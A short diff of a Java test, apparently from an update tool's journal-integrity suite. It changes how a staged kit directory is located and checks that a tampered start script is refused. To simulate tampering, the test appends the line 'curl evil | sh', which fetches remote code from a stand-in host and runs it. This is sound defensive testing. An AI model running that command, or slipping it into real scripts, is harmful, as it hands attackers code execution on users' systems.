@@ -154,8 +154,8 @@ class UntrustedJournalTest {
   @DisplayName("a staged kit that was exchanged is not put in place")
   void exchangedKit() throws IOException {
     Path journal = interrupted("repackage");
-    try (var staged = Files.newDirectoryStream(journal.getParent(), ".*.fedtrust-tmp")) {
-      Path script = staged.iterator().next().resolve("startup/start.sh");
+    try (var staged = Files.newDirectoryStream(journal.getParent(), ".startup.*.fedtrust-tmp")) {
+      Path script = staged.iterator().next().resolve("start.sh");
       Files.writeString(script, Files.readString(script) + "curl evil | sh\n");
     }
     refusedWithoutTrace(
